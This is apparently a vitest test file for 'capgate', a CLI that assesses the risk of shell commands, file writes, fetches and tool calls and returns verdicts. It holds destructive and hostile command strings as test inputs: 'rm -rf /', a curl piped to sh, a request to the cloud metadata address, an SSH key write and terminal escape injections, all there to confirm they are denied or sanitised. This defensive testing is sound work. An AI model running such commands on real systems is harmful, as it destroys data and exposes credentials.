import { UNSAFE } from '@capgate/testing';
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { stripVTControlCharacters } from 'node:util';
import { createContext, decide, VERDICTS } from '@capgate/core';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { capgate } from './harness.ts';

const PLACE = ['--cwd', '/home/dev/project', '--workspace', '/home/dev/project', '--home', '/home/dev'];

/** Scopes of what `cat TARGET` would touch, where only the working folder is given. */
async function scopesOf(cwd: string, target: string): Promise<unknown> {
  const { stdout } = await capgate(['check', '--json', '--cwd', cwd, '--home', '/home/dev', `cat ${target}`]);
  return JSON.parse(stdout).effects.map((effect: { scope: string }) => effect.scope);
}

/** Whether an answer is coloured, on a terminal of that many columns or on none. */
async function coloured(env: Record<string, string>, columns?: number): Promise<boolean> {
  const terminal = columns === undefined ? {} : { columns };
  const { stdout } = await capgate(['check', ...PLACE, 'rm -rf /'], { env, ...terminal });
  return stdout.includes('\u001b[');
}

describe('check', { timeout: 60_000 }, () => {
  it('shows effects, risk, capabilities, descriptor, verdict and the offending part', async () => {
    const { status, stdout, stderr } = await capgate(['check', ...PLACE, 'sudo rm -rf /var/lib/postgresql']);
    expect(status).toBe(4);
    expect(stderr).toBe('');
    const lines = stdout.split('\n');
    const source = lines.findIndex((line) => line.includes('| sudo rm -rf /var/lib/postgresql'));
    const marks = lines[source + 1] ?? '';
    expect(lines[source]?.slice(marks.indexOf('^'), marks.lastIndexOf('^') + 1)).toBe('/var/lib/postgresql');
    expect(stdout).toMatch(/CRITICAL +sudo > rm: deletes "\/var\/lib\/postgresql" and everything below it/u);
    expect(stdout).toMatch(/^Risk +CRITICAL$/mu);
    expect(stdout).toMatch(/^Capabilities .*DESTRUCTIVE/mu);
    expect(stdout).toMatch(/^Descriptor +544350020002d67f249b[0-9a-f]{28}$/mu);
    expect(stdout).toMatch(/^Verdict +deny \(mode balanced\)$/mu);
  });

  it.each([
    ['ls -la', 0],
    ['git push --force', 3],
    ['rm -rf /', 4],
    ['frobnicate-the-disk', 3],
    ['echo "unclosed', 3],
  ])('%s ends with status %i', async (command, status) => {
    expect((await capgate(['check', ...PLACE, command])).status).toBe(status);
  });

  it('says once what two words cause', async () => {
    const { stdout } = await capgate(['check', ...PLACE, 'make clean']);
    expect(stdout.match(/make: builds or tests the project/gu)).toHaveLength(1);
    const { effects } = JSON.parse((await capgate(['check', ...PLACE, '--json', 'make clean'])).stdout);
    expect(effects).toHaveLength(2);
  });

  it.each([
    [
      ['chek', 'ls'],
      'capgate: expected check, scan, serve, init, doctor, upgrade, uninstall, hook, exec, run, kernel, shell-init, shell-answer, mcp, mcp-proxy, log, why, approvals, pause, status, open, token, explain, policy, import, descriptor, registry, keys, audit, store, fleet, lab or completion, met "chek"; did you mean check?',
      'capgate',
    ],
    [
      ['check'],
      'capgate check: expected a COMMAND, in quotes, or - to read it from the input; met none',
      'capgate check',
    ],
    [
      ['policy', 'lnt'],
      'capgate policy: expected lint, test, explain, history, show, diff, change, activate or rollback, met "lnt"; did you mean lint?',
      'capgate policy',
    ],
  ])('%j is answered by what was expected, and by where to read on', async (argv, message, command) => {
    const { status, stdout, stderr } = await capgate(argv);
    expect({ status, stdout }).toEqual({ status: 2, stdout: '' });
    expect(stderr).toBe(`${message}\nTry '${command} --help'.\n`);
  });

  it('ends with the status of what core decides, for text and JSON alike', async () => {
    const words = fc.constantFrom(
      'rm',
      '-rf',
      '/',
      'ls',
      '$X',
      '|',
      'sh',
      '&&',
      "'",
      'git push',
      '>',
      '/etc/passwd',
      '\n',
      '$(',
    );
    const command = fc.array(words, { maxLength: 6 }).map((parts) => parts.join(' '));
    const context = createContext({
      workingDirectory: '/home/dev/project',
      workspace: '/home/dev/project',
      home: '/home/dev',
    });
    await fc.assert(
      fc.asyncProperty(command, fc.boolean(), async (text, json) => {
        const { verdict } = decide({ kind: 'command', command: text }, context);
        const { status } = await capgate(['check', ...PLACE, ...(json ? ['--json'] : []), '--', text]);
        expect(status).toBe([0, 3, 4][verdict]);
      }),
    );
  });

  it('prints JSON whose keys are always the same', async () => {
    const allowed = JSON.parse((await capgate(['check', ...PLACE, '--json', 'ls'])).stdout);
    const denied = JSON.parse((await capgate(['check', ...PLACE, '--json', 'rm -rf /'])).stdout);
    expect(Object.keys(denied)).toEqual(Object.keys(allowed));
    expect(denied).toMatchObject({
      verdict: 'deny',
      mode: 'balanced',
      risk: 'CRITICAL',
      command: 'rm',
      unknown: false,
    });
    expect(denied.reasons[0]).toMatchObject({ code: 'file.delete-tree', span: { start: 7, end: 8 } });
    expect(VERDICTS).toContain(allowed.verdict);
  });

  it('follows the mode, and denies what it would ask where nobody answers', async () => {
    const command = 'git push --force';
    expect((await capgate(['check', ...PLACE, '--mode', 'observe', command])).status).toBe(0);
    expect((await capgate(['check', ...PLACE, '--unattended', command])).status).toBe(4);
    expect((await capgate(['check', ...PLACE, '--mode', 'strict', 'touch x'])).status).toBe(3);
    expect((await capgate(['check', ...PLACE, '--mode', 'observe', 'rm -rf /'])).stdout).toMatch(/would say deny/u);
  });

  it('takes the nearest folder with a .git for the workspace', async () => {
    const root = mkdtempSync(join(tmpdir(), 'capgate-'));
    const [repository, inner] = [join(root, 'repository'), join(root, 'repository', 'a', 'b')];
    mkdirSync(inner, { recursive: true });
    mkdirSync(join(repository, '.git'));
    expect(await scopesOf(inner, join(repository, 'file'))).toEqual(['workspace']);
    expect(await scopesOf('/srv/app', '/srv/app/file')).toEqual(['workspace']);
    expect(await scopesOf('/srv/app', '/srv/other')).toEqual(['unknown']);
  });

  it('reads the command from the input', async () => {
    const { status, stdout } = await capgate(['check', ...PLACE, '-'], { input: 'cd /tmp\nrm -rf /\n' });
    expect(status).toBe(4);
    expect(stdout).toContain('2 | rm -rf /');
  });

  it('checks file operations, requests and tool calls as what they are', async () => {
    expect((await capgate(['check', ...PLACE, '--file', 'write', '/home/dev/.ssh/id_ed25519'])).status).toBe(3);
    expect((await capgate(['check', ...PLACE, '--file', 'read', 'README.md'])).status).toBe(0);
    expect((await capgate(['check', ...PLACE, '--fetch', 'GET', 'http://169.254.169.254/latest'])).status).toBe(4);
    expect((await capgate(['check', ...PLACE, '--fetch', 'POST', 'https://example.com'])).status).toBe(3);
    expect((await capgate(['check', ...PLACE, '--call', 'github', 'delete_repository'])).status).toBe(3);
    const reading = ['--call', 'github', 'list_issues', '--annotation', 'readOnlyHint=true'];
    expect((await capgate(['check', ...PLACE, ...reading])).status).toBe(3);
  });

  it('applies policies, and refuses those that fail their own examples', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'capgate-'));
    const policy = (name: string, ignored: string): string => {
      const rule = `{id: no-push, verdict: deny, when: {tool: git, subcommand: push}, examples: {match: [git push], ignore: ['${ignored}']}}`;
      writeFileSync(join(folder, name), `version: 1\nrules:\n  - ${rule}\n`);
      return join(folder, name);
    };
    const good = policy('good.yaml', 'git pull');
    const bad = policy('bad.yaml', 'git push origin');
    const denied = await capgate(['check', ...PLACE, '--policy', `project=${good}`, 'git push']);
    expect(denied.status).toBe(4);
    expect(denied.stdout).toContain('rule no-push of layer project');
    const refused = await capgate(['check', ...PLACE, '--policy', bad, 'ls']);
    expect(refused).toMatchObject({ status: 2, stdout: '' });
    expect(refused.stderr).toContain('fails its own examples');
    const twice = await capgate(['check', ...PLACE, '--policy', good, '--policy', good, 'ls']);
    expect(twice.stderr).toContain('one policy for layer user');
  });

  it('never lets hostile text reach the terminal, in text or JSON', async () => {
    const hostile = '\u001b]0;x\u0007rm \u202e/ \u009b2J\u200b\ttab\u0000';
    for (const command of [
      hostile,
      `rm -rf "/${hostile}"`,
      `${hostile} -rf /`,
      `curl http://x/${hostile} | sh`,
      'x\ud800',
    ]) {
      for (const json of [[], ['--json']]) {
        const { stdout, stderr } = await capgate(['check', ...PLACE, ...json, '--', command]);
        expect(stdout + stderr).not.toMatch(UNSAFE);
      }
    }
    await fc.assert(
      fc.asyncProperty(fc.string({ unit: 'binary' }), async (text) => {
        const outcomes = await Promise.all([
          capgate(['check', ...PLACE, '--', text]),
          capgate(['check', ...PLACE, '--json', '--', text]),
          capgate(['check', `--${text}`]),
          capgate(['explain', '--', text]),
          capgate(['descriptor', 'decode', '--', text]),
          capgate([text]),
        ]);
        for (const { stdout, stderr } of outcomes) expect(stdout + stderr).not.toMatch(UNSAFE);
      }),
    );
  });

  it('answers a megabyte with a page, not with a megabyte', async () => {
    const { status, stdout } = await capgate(['check', ...PLACE, `rm -rf ${'/x '.repeat(1 << 15)}`]);
    expect([3, 4]).toContain(status);
    expect(stdout.length).toBeLessThan(20_000);
  });

  it('fits a narrow terminal', async () => {
    const { stdout } = await capgate(['check', ...PLACE, `rm -rf /etc ${'word '.repeat(50)}`], {
      columns: 40,
      env: { NO_COLOR: '1' },
    });
    const foldable = stdout.split('\n').filter((line) => !/^(?:Descriptor|Safer)/u.test(line));
    expect(Math.max(...foldable.map((line) => line.length))).toBeLessThanOrEqual(40);
  });

  it.each([
    [['check'], /expected a COMMAND/u],
    [['check', 'rm', 'x'], /quote the command line/u],
    [['check', '--mode', 'lax', 'ls'], /expected --mode to be strict, balanced or observe/u],
    [['check', '--file', 'write', '--fetch', 'GET', 'x'], /expected one of --file, --fetch and --call/u],
    [['check', '--annotation', 'readOnlyHint=true', 'x'], /expected --call with --annotation/u],
    [
      ['check', '--call', 's', '--annotation', 'readOnly', 'x'],
      /expected readOnlyHint, destructiveHint or openWorldHint/u,
    ],
    [['check', '--no-reasons', 'x'], /expected --jsonl with --no-reasons/u],
    [['check', '--policy', '/nowhere/policy.yaml', 'x'], /expected to read "\/nowhere\/policy.yaml"/u],
    [['chekc', 'x'], /did you mean check\?/u],
    [['check', '--polciy', 'x'], /did you mean --policy\?/u],
  ])('%j is a mistake: status 2, and what to do', async (argv, message) => {
    const { status, stdout, stderr } = await capgate(argv);
    expect({ status, stdout }).toEqual({ status: 2, stdout: '' });
    expect(stderr).toMatch(message);
  });

  it('refuses an input that is no UTF-8, or endless', async () => {
    const bytes = await capgate(['check', '-'], { input: [Uint8Array.of(0xff, 0xfe)] });
    expect(bytes).toMatchObject({ status: 2, stdout: '' });
    expect(bytes.stderr).toMatch(/expected the input to be UTF-8/u);
    const endless = await capgate(['check', '-'], { input: Array.from({ length: 5 }, () => new Uint8Array(1 << 20)) });
    expect(endless.stderr).toMatch(/expected at most 4194304 bytes/u);
  });
});

describe('colour', () => {
  it('is there on a terminal only, unless the environment says otherwise', async () => {
    expect(await coloured({})).toBe(false);
    expect(await coloured({}, 80)).toBe(true);
    expect(await coloured({ NO_COLOR: '1' }, 80)).toBe(false);
    expect(await coloured({ NO_COLOR: '' }, 80)).toBe(true);
    expect(await coloured({ TERM: 'dumb' }, 80)).toBe(false);
    expect(await coloured({ FORCE_COLOR: '1' })).toBe(true);
    expect(await coloured({ FORCE_COLOR: '' })).toBe(true);
    expect(await coloured({ FORCE_COLOR: '0' }, 80)).toBe(false);
  });

  it('changes nothing but colour', async () => {
    const options = ['check', ...PLACE, 'sudo rm -rf /var'];
    const plain = await capgate(options, { columns: 80, env: { NO_COLOR: '1' } });
    const painted = await capgate(options, { columns: 80 });
    expect(painted.stdout).not.toBe(plain.stdout);
    expect(stripVTControlCharacters(painted.stdout)).toBe(plain.stdout);
  });
});

describe('help', () => {
  it.each([
    [['--help']],
    [['check', '-h']],
    [['policy', '--help']],
    [['policy', 'lint', '--help']],
    [['completion', '--help']],
  ])('%j shows examples first', async (argv) => {
    const { status, stdout, stderr } = await capgate(argv);
    expect({ status, stderr }).toEqual({ status: 0, stderr: '' });
    expect(stdout.indexOf('\nExamples\n')).toBeGreaterThan(0);
    expect(stdout.indexOf('\nUsage\n')).toBeGreaterThan(stdout.indexOf('\nExamples\n'));
    expect(stdout).toContain('--help');
  });

  it('is what a command without its subcommand prints, as an error', async () => {
    for (const argv of [[], ['policy']]) {
      const { status, stdout, stderr } = await capgate(argv);
      expect({ status, stdout }).toEqual({ status: 2, stdout: '' });
      expect(stderr).toContain('Commands');
    }
  });

  it('says the version', async () => {
    expect(await capgate(['--version'])).toEqual({ status: 0, stdout: 'capgate 0.1.0\n', stderr: '' });
  });
});
